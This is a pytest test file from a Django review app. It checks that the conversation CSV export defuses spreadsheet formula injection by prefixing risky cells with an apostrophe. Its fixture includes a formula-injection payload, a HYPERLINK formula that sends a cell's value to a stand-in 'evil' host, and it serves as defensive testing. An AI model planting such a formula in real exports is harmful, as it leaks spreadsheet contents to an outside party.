"""Downloads: the conversation CSV and reviewer verdicts as labelled data."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from .factories import agent_user, import_files, jsonl_line

pytestmark = pytest.mark.django_db


def test_the_export_neutralises_spreadsheet_formulas(team, lina, client_for):
    # given conversations whose ID and agent name start like spreadsheet formulas
    agent_user(team)
    body = jsonl_line(
        '=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1+1)", "Terima kasih"
    ) + jsonl_line("+1-2", "-cmd", "Halo")
    import_files(lina, team, [("x.jsonl", body.encode())])

    # when the reviewer exports
    response = client_for(lina).get(reverse("service:export"))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))

    # then every such cell is prefixed with ' and stays text
    cells = {(row[1], row[3]) for row in rows[1:]}
    assert cells == {('\'=HYPERLINK("http://evil/?"&A1,"x")', "'@SUM(1+1)"), ("'+1-2", "'-cmd")}
